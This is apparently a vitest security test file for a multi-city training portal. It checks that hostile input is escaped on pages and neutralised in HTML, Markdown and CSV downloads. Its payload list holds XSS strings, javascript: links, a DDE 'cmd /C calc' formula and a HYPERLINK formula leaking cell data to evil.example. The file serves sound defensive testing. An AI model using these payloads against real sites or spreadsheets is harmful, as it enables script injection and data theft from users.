// Hostile text in every field a person can type, through the real routes (issue 16, "Output"):
// stored as given (read back from the store), shown as text on every page that shows it (no
// element, attribute or script of its own), and neutralised in every download.
//
// Inventory: what a person types, where it is stored, and every output it reaches.
//
// | Field (form or body)                          | Typed by    | Stored in                     | Shown in / downloaded as                                          |
// |-----------------------------------------------|-------------|-------------------------------|-------------------------------------------------------------------|
// | sign-in email (POST /sign-in)                 | anyone      | nothing (audit without it)    | the refused sign-in page (input value)                            |
// | invitation email (POST /admin/invitations)    | admin       | invitations (lower-cased)     | invitation created page, /admin/people                            |
// | city file text (POST /admin/city/check)       | admin       | nothing (a checker)           | /admin/city (textarea, issues)                                    |
// | questionnaire title (POST /needs/questionnaires) | coordinator | questionnaires.title         | /needs/questionnaires, its poster (QR poster)                     |
// | free-text answers (POST /q/:id/responses, JSON) | respondent | questionnaire_answers.response | no page (counted in needs reports only)                          |
// | paper answers (POST …/assisted, JSON)         | coordinator | questionnaire_answers.response | no page                                                           |
// | needs plan item title (POST /needs/plan)      | coordinator | needs_reviews.plan            | /needs                                                            |
// | source title/publisher/summary (/needs/sources) | coordinator | needs_reviews.study         | /needs/evidence, /needs/findings (choices)                        |
// | session facilitator/summary (/needs/sessions) | coordinator | needs_reviews.study           | /needs/evidence                                                   |
// | finding statement (POST /needs/findings)      | coordinator | needs_reviews.study           | /needs/findings, report page (JSON data), report.html/.md         |
// | survey export CSV and mapping (/needs/import) | coordinator | study (imported answers)      | /needs/import (textareas, issues quoting cells)                   |
// | competence titles (framework, city extension) | city admin  | the files                     | /framework, reports, report.csv/.md (tables)                      |
// | programme room and trainer (/programme/plans) | coordinator | programmes.programme          | /programme/plans/:id (table and edit forms)                       |
// | a session's room, trainer (…/sessions/:id)    | coordinator | programmes.programme          | /programme/plans/:id                                              |
// | feedback comment (POST /feedback/:session)    | staff       | feedback.comment              | /evaluation/:sequence (comments of a released module)             |
// | self-assessment draft / response (JSON APIs)  | staff       | drafts, responses             | /account/export (JSON download)                                   |
// | pasted credential (POST /verify)              | anyone      | nothing                       | /verify result page                                               |
// | city file strings (apps/portal/cities/*.json) | city admin  | the file                      | every page (name, contact), /privacy, /catalogue, sign-in, 404   |
// | organisation entry (POST /network/stakeholders/:id) | coordinator, representative | network_documents.document | /network/stakeholders/:id                          |
// | organisation name, cooperation topic (/network/…) | coordinator | network_documents.document  | /network, /network/stakeholders/:id, /action-plan (names)         |
//
// The e-mails: the portal sends none; invitation links are shown to the admin to pass on. The
// posters: the questionnaire poster page (it names the city and the instrument, not the title).
// The one CSV download (needs report) holds figures, codes and competence titles, no typed
// text: its formula defence is driven here with formula-leading competence titles. This file
// drives every row above except the feedback comment (evaluation.test.ts releases a
// `<script>` comment and checks it escaped), the pasted credential (credentials.test.ts), paper
// answers (the same storage as respondents' answers) and a single session's edit form (the
// same fields and page as the plan), and the network's forms (networks.test.ts stores hostile
// names, descriptions and contact roles and checks them escaped). Normalisations on the way in, by design: form fields are
// trimmed, addresses lower-cased. apps/portal/src/hostile.e2e.test.ts shows the texts in
// Chromium under the Content-Security-Policy.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needsAnalysisGuides, tcnQuestionnaire } from '@competence-kit/framework-intercultural';
import { isFormulaLike, parseCsv } from '@competence-kit/model/csv';
import type { City, NeedsStudy } from '@competence-kit/schemas';
import { validateCity } from '@competence-kit/schemas/validators';
import { hashPassword } from './auth/password.js';
import { guideCodes, type PlanItem } from './needs-review.js';
import { respondentText } from './respondent-words.js';
import type { PortalCity } from './page.js';
import {
  ALPHA,
  BETA,
  Browser,
  responseOf,
  startApp,
  TEST_COST,
  type TestApp,
} from './test-support/app.js';
import { tcnResponse } from './test-support/matrix-questionnaires.js';

const A = '/alpha-town';
const B = '/beta-town';

/** One payload per kind of attack on a page, a download or a spreadsheet. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(2)",
  '</textarea><script>alert(3)</script>',
  'javascript:alert(4)',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  'abc\u202Etxt.exe',
  'zero\u200Dwidth\u200Cjoin\u2060er\uFEFF',
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '[click](javascript:alert(5)) ![img](http://evil.example/x.png) <https://evil.example>',
  '`code` | pipe | *em* _u_ ~~s~~ \\ # not a heading',
  'line one\nline two\r\n# heading\n- list',
  '<!-- comment --> ]]> &amp; &#60;b&#62; &lt;',
] as const;
/** A single line with every payload but the multi-line one, for fields that take one line. */
const ONE_LINE = PAYLOADS.filter((p) => !/[\r\n]/.test(p)).join(' · ');

let t: TestApp;
let admin: Browser;
let coordinator: Browser;
let anonymous: Browser;

// ---------------------------------------------------------------------------------------------
// What an HTML answer may contain: a small tag scanner. Every `<` followed by a letter must open
// a well-formed tag of our own markup; no tag may carry an event handler, a style attribute or a
// script URL; scripts are modules from /assets/ or JSON data. The text of the page (text nodes,
// attribute values and the JSON data scripts, decoded) must contain each hostile string.
// ---------------------------------------------------------------------------------------------

const TAG =
  /<([a-zA-Z][\w-]*)((?:\s+[^\s"'=<>/`]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
const ATTRIBUTE = /([^\s"'=<>/`]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

function decode(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (whole, name: string) => {
    if (name[0] === '#')
      return String.fromCodePoint(
        name[1] === 'x' || name[1] === 'X' ? parseInt(name.slice(2), 16) : Number(name.slice(1)),
      );
    const named: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" };
    return named[name.toLowerCase()] ?? whole;
  });
}

/** The strings of a JSON value, depth first. */
function stringsOf(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) stringsOf(v, out);
  else if (value && typeof value === 'object')
    for (const v of Object.values(value)) stringsOf(v, out);
  return out;
}

/**
 * Checks an HTML answer for injected markup and returns its text (decoded text, attribute values
 * and the strings of its JSON data scripts), with line breaks as a browser reads them.
 */
function inspect(body: string, where: string): string {
  const tags = [...body.matchAll(TAG)];
  // Every tag opening is one of the scanned tags: nothing half-open that a browser would repair.
  expect(body.match(/<[a-zA-Z]/g)?.length ?? 0, `${where}: stray "<"`).toBe(tags.length);
  const texts: string[] = [];
  for (const [whole, name, attributes] of tags) {
    const tag = name!.toLowerCase();
    expect(['iframe', 'object', 'embed', 'base', 'frame'], `${where}: ${whole}`).not.toContain(tag);
    const attrs = new Map<string, string>();
    for (const a of attributes!.matchAll(ATTRIBUTE))
      attrs.set(a[1]!.toLowerCase(), decode(a[2] ?? a[3] ?? a[4] ?? ''));
    for (const [attr, value] of attrs) {
      expect(attr, `${where}: ${whole.slice(0, 200)}`).not.toMatch(/^on|^style$|^srcdoc$/);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'poster'].includes(attr))
        expect(value.trim(), `${where}: ${whole.slice(0, 200)}`).not.toMatch(
          /^(?:javascript|vbscript|data:(?!,$))/i,
        );
      texts.push(value);
    }
    if (tag === 'img') expect(attrs.get('src'), `${where}: ${whole}`).not.toBe('x');
    if (tag === 'meta') expect(attrs.has('http-equiv'), `${where}: ${whole}`).toBe(false);
    if (tag === 'script')
      expect(
        attrs.get('type') === 'application/json' ||
          (attrs.get('type') === 'module' &&
            /^\/[\w-]+\/assets\/[\w.-]+\.js$/.test(attrs.get('src') ?? '')),
        `${where}: ${whole}`,
      ).toBe(true);
  }
  for (const [, data] of body.matchAll(
    /<script type="application\/json" id="[\w-]+">([\s\S]*?)<\/script>/g,
  ))
    texts.push(...stringsOf(JSON.parse(data!)));
  texts.push(decode(body.replace(TAG, '\u0000')));
  return texts.join('\u0000').replace(/\r\n?/g, '\n');
}

/** `body` shows each of `texts` as text (trimmed, as the forms keep it), and nothing injected. */
function expectShown(body: string, texts: readonly string[], where: string) {
  const text = inspect(body, where);
  for (const s of texts)
    expect(
      text.includes(s.trim().replace(/\r\n?/g, '\n')),
      `${where} shows ${JSON.stringify(s)}`,
    ).toBe(true);
}

// ---------------------------------------------------------------------------------------------

/** The test city with hostile text in every string of its file that a page shows. */
function hostileCity(): PortalCity {
  const both = (text: string) => ({ de: text, it: text, en: text });
  const city: City = {
    ...BETA.city,
    name: both(`Beta ${ONE_LINE}`),
    contact: {
      ...BETA.city.contact,
      organisation: both(`Org ${ONE_LINE}`),
      address: both(PAYLOADS.join('\n')),
    },
    dataProtection: {
      ...BETA.city.dataProtection,
      controller: {
        ...BETA.city.dataProtection.controller,
        name: both(`Controller ${ONE_LINE}`),
      },
      purposes: [
        { ...BETA.city.dataProtection.purposes[0]!, description: both(`Purpose ${ONE_LINE}`) },
      ],
      rights: both(`Rights ${ONE_LINE}`),
    },
    branding: { logo: { src: 'https://example.org/logo.svg', alt: both(`Logo ${ONE_LINE}`) } },
  };
  expect(validateCity(city)).toBe(true);
  return { ...BETA, city };
}
const HOSTILE_BETA = hostileCity();

/** Formula signs a spreadsheet runs, leading the competence titles of Alpha's framework. */
const FORMULA_SIGNS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D'] as const;
const FORMULA_ALPHA: PortalCity = {
  ...ALPHA,
  framework: {
    ...ALPHA.framework,
    competences: ALPHA.framework.competences.map((c, i) => ({
      ...c,
      title: Object.fromEntries(
        Object.entries(c.title).map(([lang, text]) => [
          lang,
          `${FORMULA_SIGNS[i % FORMULA_SIGNS.length]}HYPERLINK("http://evil.example","${text} | [x](javascript:alert(6))")`,
        ]),
      ),
    })),
  },
};

async function person(city: string, email: string, role: 'staff' | 'coordinator' | 'admin') {
  const created = await t.store.accounts.create(city, {
    email,
    role,
    passwordHash: await hashPassword('a long password', TEST_COST),
    roleProfile: 'front-desk',
  });
  if (!created.ok) throw new Error(created.code);
  const browser = new Browser(t.app, { 'accept-language': 'en' });
  expect((await browser.signIn(`/${city}`, email, 'a long password')).statusCode).toBe(303);
  return { browser, accountId: created.account.accountId };
}

beforeAll(async () => {
  t = await startApp(
    {},
    { 'alpha-town': { city: FORMULA_ALPHA }, 'beta-town': { city: HOSTILE_BETA } },
  );
  admin = (await person('alpha-town', 'admin@alpha.example.org', 'admin')).browser;
  coordinator = (await person('alpha-town', 'coordinator@alpha.example.org', 'coordinator'))
    .browser;
  anonymous = new Browser(t.app, { 'accept-language': 'en' });
});
afterAll(async () => t?.close());

describe('hostile text from a city file', () => {
  it('is shown as text on every public page, the sign-in, a 404, and a signed-in page', async () => {
    const staff = new Browser(t.app, { 'accept-language': 'en' });
    expect((await staff.signIn(B, 'staff-b@example.org', 'password-b')).statusCode).toBe(303);
    const everywhere = [HOSTILE_BETA.city.name.en!, HOSTILE_BETA.city.contact.organisation.en!];
    const pages: [Browser, string, string[]][] = [
      [anonymous, '/', [HOSTILE_BETA.city.branding!.logo!.alt.en!]],
      [anonymous, '/framework', []],
      [anonymous, '/catalogue', []],
      [
        anonymous,
        '/privacy',
        [
          HOSTILE_BETA.city.dataProtection.controller.name.en!,
          HOSTILE_BETA.city.dataProtection.purposes[0]!.description.en!,
          HOSTILE_BETA.city.dataProtection.rights.en!,
        ],
      ],
      [anonymous, '/sign-in', []],
      [anonymous, '/no-such-page', []],
      [staff, '/profile', []],
      [staff, '/account', []],
      [staff, '/assessment', []],
    ];
    for (const [browser, path, texts] of pages) {
      const page = await browser.get(`${B}${path}`);
      expect(page.statusCode, path).toBe(path === '/no-such-page' ? 404 : 200);
      expect(page.headers['content-type'], path).toMatch(/^text\/html/);
      expectShown(page.body, [...everywhere, ...texts], `${B}${path}`);
    }
  });
});

describe('hostile text typed into the portal', () => {
  it('a sign-in email is shown back as text in the refused sign-in', async () => {
    for (const payload of PAYLOADS) {
      const refused = await anonymous.signIn(A, payload, 'wrong');
      expect(refused.statusCode).toBe(401);
      expectShown(refused.body, [payload], 'refused sign-in');
    }
  });

  it('an invitation email, as far as an address allows, is stored and shown as text', async () => {
    // What the address check lets through: quotes, braces, pipes, formula signs, an RTL override.
    const email = "o'brien&{{7*7}}${7*7}|=cmd`x`+\u202Eevil@example.org";
    const created = await admin.submit(`${A}/admin/people`, `${A}/admin/invitations`, {
      email,
      role: 'staff',
      roleProfile: 'front-desk',
    });
    expect(created.statusCode).toBe(201);
    expectShown(created.body, [email], 'invitation created');
    const people = await admin.get(`${A}/admin/people`);
    expectShown(people.body, [email], '/admin/people');
    const stored = await t.store.db
      .selectFrom('invitations')
      .select('email')
      .where('city_id', '=', 'alpha-town')
      .execute();
    expect(stored.map((r) => r.email)).toContain(email);
    // Markup in an address is refused, not stored.
    const refused = await admin.submit(`${A}/admin/people`, `${A}/admin/invitations`, {
      email: '"><img src=x onerror=alert(1)>@example.org',
      role: 'staff',
      roleProfile: 'front-desk',
    });
    expect(refused.statusCode).toBe(400);
    expect(await t.store.db.selectFrom('invitations').select('email').execute()).toHaveLength(1);
  });

  it('a city file pasted into the checker is shown back as text', async () => {
    const text = JSON.stringify({ ...HOSTILE_BETA.city, id: PAYLOADS[1] }, null, 2);
    for (const city of [text, PAYLOADS.join('\n'), `${PAYLOADS[3]}\n`.repeat(400)]) {
      const checked = await admin.submit(`${A}/admin/city`, `${A}/admin/city/check`, { city });
      expect([200, 400]).toContain(checked.statusCode);
      expectShown(checked.body, [city], '/admin/city/check');
    }
  });

  it('a questionnaire title is stored as given and shown as text in the list and the poster', async () => {
    const day = (offset: number) =>
      new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    const titles = [...PAYLOADS.map((p) => p.replace(/[\r\n]+/g, ' ')), `${'x'.repeat(150)}<b>`];
    for (const title of titles) {
      const opened = await coordinator.submit(
        `${A}/needs/questionnaires`,
        `${A}/needs/questionnaires`,
        {
          instrument: tcnQuestionnaire.id,
          title,
          opensOn: day(-1),
          closesOn: day(30),
          languages: 'en',
        },
      );
      expect(opened.statusCode, title).toBe(303);
    }
    const stored = await t.store.questionnaires.list('alpha-town');
    expect(stored.map((q) => q.title).sort()).toEqual(titles.map((s) => s.trim()).sort());
    const list = await coordinator.get(`${A}/needs/questionnaires`);
    expectShown(list.body, titles, '/needs/questionnaires');
    for (const q of stored) {
      const poster = await coordinator.get(`${A}/needs/questionnaires/${q.questionnaireId}/poster`);
      expect(poster.statusCode).toBe(200);
      // The poster names the instrument, not the opening: nothing typed, nothing injected.
      inspect(poster.body, 'poster');
    }
  });

  it('free-text answers are stored byte for byte, a lone surrogate included', async () => {
    const [opening] = await t.store.questionnaires.list('alpha-town');
    const id = opening!.questionnaireId;
    const texts = [...PAYLOADS, ONE_LINE, 'lone \uD800 surrogate', `${'y'.repeat(1900)}<script>`];
    for (const text of texts) {
      const respondent = new Browser(t.app, { 'accept-language': 'en' });
      const token = await respondent.csrf(`${A}/q/${id}/answer?lang=en`);
      const sent = await respondent.request('POST', `${A}/q/${id}/responses?lang=en`, {
        json: { ...tcnResponse(text), locale: 'en' },
        headers: { 'csrf-token': token },
      });
      const answers = async () =>
        (await t.store.questionnaires.listAnswers('alpha-town', id)).length;
      if (/\p{Surrogate}/u.test(text)) {
        // No UTF-8 text can hold it: refused in the respondent's language, nothing stored.
        const before = await answers();
        expect(sent.statusCode).toBe(400);
        expect(sent.json()).toMatchObject({
          code: 'invalid-response',
          message: respondentText('en', 'error.invalid'),
          issues: [expect.objectContaining({ code: 'invalid-text' })],
        });
        expect(await answers()).toBe(before);
        continue;
      }
      expect(sent.statusCode, JSON.stringify(text)).toBe(201);
      const stored = await t.store.questionnaires.listAnswers('alpha-town', id);
      const free = stored
        .flatMap((a) => (a.response as { answers: { value?: unknown }[] }).answers)
        .map((a) => a.value);
      expect(free, JSON.stringify(text)).toContain(text);
    }
  });
});

describe('hostile text in a staff member’s own data', () => {
  it('keeps a draft as given, refuses a lone surrogate, and exports it as JSON', async () => {
    const staff = new Browser(t.app, { 'accept-language': 'en' });
    expect((await staff.signIn(A, 'staff-a@example.org', 'password-a')).statusCode).toBe(303);
    const token = await staff.csrf(`${A}/assessment`);
    const put = (draft: unknown) =>
      staff.request('PUT', `${A}/api/draft`, { json: { draft }, headers: { 'csrf-token': token } });
    const draft = {
      ...Object.fromEntries(PAYLOADS.map((p, i) => [`note-${i}`, p])),
      long: `${'\u{1F600}<script>'.repeat(1000)}`, // 10 kB and more, astral characters too
    };
    expect((await put({ ...draft, [PAYLOADS[0]]: PAYLOADS[1] })).statusCode).toBe(204);
    const account = (await t.store.accounts.findByEmail('alpha-town', 'staff-a@example.org'))!;
    const load = () =>
      t.store.drafts.load('alpha-town', account.accountId, ALPHA.instruments[0]!.instrument.id);
    expect((await load())!.draft).toEqual({ ...draft, [PAYLOADS[0]]: PAYLOADS[1] });

    for (const bad of [
      { note: 'lone \uDC00' },
      { ['key \uD800']: 'x' },
      { deep: [[{ x: '\uD83D' }]] },
    ]) {
      const refused = await put(bad);
      expect(refused.statusCode).toBe(400);
      expect(refused.json()).toMatchObject({
        code: 'invalid-body',
        issues: [expect.objectContaining({ code: 'invalid-text' })],
      });
    }
    expect((await load())!.draft).toEqual({ ...draft, [PAYLOADS[0]]: PAYLOADS[1] });

    const exported = await staff.get(`${A}/account/export`);
    expect(exported.headers['content-type']).toMatch(/^application\/json/);
    expect(exported.headers['content-disposition']).toMatch(/^attachment;/);
    expect(JSON.stringify(JSON.parse(exported.body))).toContain(JSON.stringify(PAYLOADS[1]));
  });
});

describe('hostile text in the needs review and its downloads', () => {
  const post = (page: string, action: string, form: Record<string, string>) =>
    coordinator.submit(`${A}${page}`, `${A}${action}`, form);
  const review = async () => {
    const stored = await t.store.needsReviews.get('alpha-town', 'current');
    return {
      study: stored!.study as unknown as NeedsStudy,
      plan: stored!.plan as unknown as PlanItem[],
    };
  };
  const LONG = `${'z'.repeat(1990)}<script>`; // a finding statement at its limit (2,000)

  it('stores plan items, sources, sessions and findings as given and shows them as text', async () => {
    expect(
      (await post('/needs', '/needs/start', { start: '2027-01-01', end: '2027-06-30' })).statusCode,
    ).toBe(303);
    for (const title of PAYLOADS.filter((p) => p.length <= 300))
      expect(
        (await post('/needs', '/needs/plan', { kind: 'focus-group', title })).statusCode,
        title,
      ).toBe(303);
    expect((await review()).plan.map((p) => p.title)).toEqual(
      expect.arrayContaining(PAYLOADS.map((p) => p.trim())),
    );
    expectShown((await coordinator.get(`${A}/needs`)).body, PAYLOADS, '/needs');

    const summary = PAYLOADS.join('\n');
    expect(
      (
        await post('/needs/evidence', '/needs/sources', {
          title: ONE_LINE.slice(0, 300),
          kind: 'strategy',
          publisher: PAYLOADS[1],
          summary,
        })
      ).statusCode,
    ).toBe(303);
    expect(
      (
        await post('/needs/evidence', '/needs/sessions', {
          kind: 'interview',
          date: '2027-02-10',
          language: 'en',
          facilitator: PAYLOADS[3],
          group: 'staff',
          count: '1',
          consent: 'written',
          summary,
        })
      ).statusCode,
    ).toBe(303);
    const { study } = await review();
    expect(study.sources[0]).toMatchObject({
      title: ONE_LINE.slice(0, 300).trim(),
      publisher: PAYLOADS[1],
      summary: { en: summary },
    });
    expect(study.sessions[0]).toMatchObject({ facilitator: PAYLOADS[3], summary: { en: summary } });
    expectShown(
      (await coordinator.get(`${A}/needs/evidence`)).body,
      [ONE_LINE.slice(0, 300), PAYLOADS[1], PAYLOADS[3], summary],
      '/needs/evidence',
    );

    const code = guideCodes([needsAnalysisGuides.interviewStaff]).find(
      (c) => c.level && c.competences.length > 0,
    )!;
    const statements = [...PAYLOADS, LONG];
    for (const statement of statements)
      expect(
        (
          await post('/needs/findings', '/needs/findings', {
            statement,
            kind: 'need',
            code: code.id,
            session: 'interview-1',
          })
        ).statusCode,
        statement,
      ).toBe(303);
    expect((await review()).study.findings.map((f) => f.statement.en)).toEqual(
      statements.map((s) => s.trim()),
    );
    expectShown((await coordinator.get(`${A}/needs/findings`)).body, statements, '/needs/findings');
    // A refused form shows what was typed back as text, in its textarea.
    const refused = await post('/needs/findings', '/needs/findings', {
      statement: PAYLOADS[3],
      kind: 'need',
      level: 'galaxy',
      session: 'interview-1',
    });
    expect(refused.statusCode).toBe(400);
    expectShown(refused.body, [PAYLOADS[3]], 'refused finding');

    // A survey export: a mapping that is no JSON, then hostile cells under the page's own mapping;
    // the page shows the texts and the issues (which quote cells) as text.
    const before = JSON.stringify(await review());
    const importForm = {
      instrument: tcnQuestionnaire.id,
      group: 'third-country-nationals',
      delimiter: ',',
      csv: [
        'respondent,language,submitted',
        ...PAYLOADS.map((p) => `"${p.replace(/"/g, '""')}",xx,${p.replace(/[\r\n",]/g, ' ')}`),
      ].join('\r\n'),
    };
    const badMapping = await post('/needs/import', '/needs/import', {
      ...importForm,
      mapping: PAYLOADS[3],
    });
    expect(badMapping.statusCode).toBe(400);
    expectShown(badMapping.body, [PAYLOADS[3]], 'import with a broken mapping');
    const importPage = (await coordinator.get(`${A}/needs/import`)).body;
    const mapping = /<textarea[^>]*name="mapping"[^>]*>([^<]*)<\/textarea>/
      .exec(importPage)![1]!
      .replace(/&quot;/g, '"')
      .replace(/&#39;/g, "'")
      .replace(/&amp;/g, '&');
    const cells = await post('/needs/import', '/needs/import', { ...importForm, mapping });
    expect(cells.statusCode).toBe(422);
    expectShown(cells.body, [], 'import with hostile cells');
    expect(JSON.stringify(await review())).toBe(before);
  });

  it('keeps the report page and its HTML, Markdown and CSV downloads free of the text’s markup', async () => {
    expect((await post('/needs/reports', '/needs/reports', {})).statusCode).toBe(303);
    const page = await coordinator.get(`${A}/needs/reports/1`);
    expect(page.statusCode).toBe(200);
    expectShown(page.body, PAYLOADS, 'report page');

    const htmlDownload = await coordinator.get(`${A}/needs/reports/1/report.html?in=en`);
    expect(htmlDownload.statusCode).toBe(200);
    expect(htmlDownload.headers['x-content-type-options']).toBe('nosniff');
    expect(htmlDownload.headers['content-disposition']).toMatch(/^attachment;/);
    expectShown(htmlDownload.body, PAYLOADS, 'report.html');

    const md = (await coordinator.get(`${A}/needs/reports/1/report.md?in=en`)).body;
    // No link, image or autolink made from the text, no raw HTML, no heading or list item of its own.
    expect(md).not.toMatch(/(?<!\\)\]\((?:javascript|http:\/\/evil)/);
    expect(md).not.toMatch(/(?<!\\)<(?:https:\/\/evil|script|img|b>|!--)/);
    expect(md).not.toMatch(/^(?:# heading|- list)/m);
    // Each table's rows have the columns of its header: a typed pipe is escaped, not a column.
    const pipes = (line: string) => {
      let n = 0;
      for (let k = 0; k < line.length; k++)
        if (line[k] === '\\') k++;
        else if (line[k] === '|') n++;
      return n;
    };
    let header: number | undefined;
    let rows = 0;
    for (const line of md.split('\n')) {
      if (!line.startsWith('|')) {
        header = undefined;
        continue;
      }
      header ??= pipes(line);
      expect(pipes(line), line).toBe(header);
      rows++;
    }
    expect(rows).toBeGreaterThan(2);
    for (const payload of ['alert(5)', 'not a heading', 'line two'])
      expect(md, payload).toContain(payload);

    const csv = (await coordinator.get(`${A}/needs/reports/1/report.csv?in=en`)).body;
    const parsed = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(parsed.issues).toEqual([]);
    const cells = parsed.records.flatMap((r) => r.fields);
    expect(cells.length).toBeGreaterThanOrEqual(9);
    for (const cell of cells)
      if (!/^-?\d+(?:\.\d+)?$/.test(cell))
        expect(isFormulaLike(cell), `CSV cell ${JSON.stringify(cell)}`).toBe(false);
    // The competence titles are there, each behind the quote that makes it text.
    const titles = cells.filter((c) => c.includes('HYPERLINK'));
    expect(titles.length).toBeGreaterThan(0);
    // Read back exactly: quotes, commas, pipes and line breaks inside a cell survive its quoting.
    const written = new Set(
      FORMULA_ALPHA.framework.competences.flatMap((c) =>
        Object.values(c.title).map((t) => `'${t}`),
      ),
    );
    for (const title of titles) expect(written.has(title), JSON.stringify(title)).toBe(true);
  });
});

describe('hostile text in a planned programme', () => {
  it('stores room and trainer as given and shows them as text on the plan', async () => {
    const staff = await person('alpha-town', 'planned@alpha.example.org', 'staff');
    await t.store.responses.submit('alpha-town', staff.accountId, {
      instrumentId: ALPHA.instruments[0]!.instrument.id,
      instrumentVersion: ALPHA.instruments[0]!.instrument.version,
      response: responseOf(staff.accountId, 1) as never,
    });
    const room = `${PAYLOADS[1]} ${PAYLOADS[2]}`.slice(0, 200);
    const trainer = `${PAYLOADS[0]} ${PAYLOADS[8]}`.slice(0, 200);
    const planned = await coordinator.submit(`${A}/programme`, `${A}/programme/plans`, {
      start: '2027-01',
      months: '6',
      capacity: '5',
      room,
      trainer,
      language: 'de',
      maxDays: '2',
    });
    expect(planned.statusCode).toBe(303);
    const [draft] = await t.store.programmes.list('alpha-town');
    const stored = (await t.store.programmes.get('alpha-town', draft!.programmeId))!.programme;
    expect(stored.sessions.length).toBeGreaterThan(0);
    for (const s of stored.sessions) {
      if (s.place.type === 'in-person') expect(s.place.name).toBe(room);
      expect(s.trainer).toBe(trainer);
    }
    expect(stored.sessions.some((s) => s.place.type === 'in-person')).toBe(true);
    const plan = await coordinator.get(planned.headers.location as string);
    expect(plan.statusCode).toBe(200);
    expectShown(plan.body, [room, trainer], 'programme plan');
  });
});
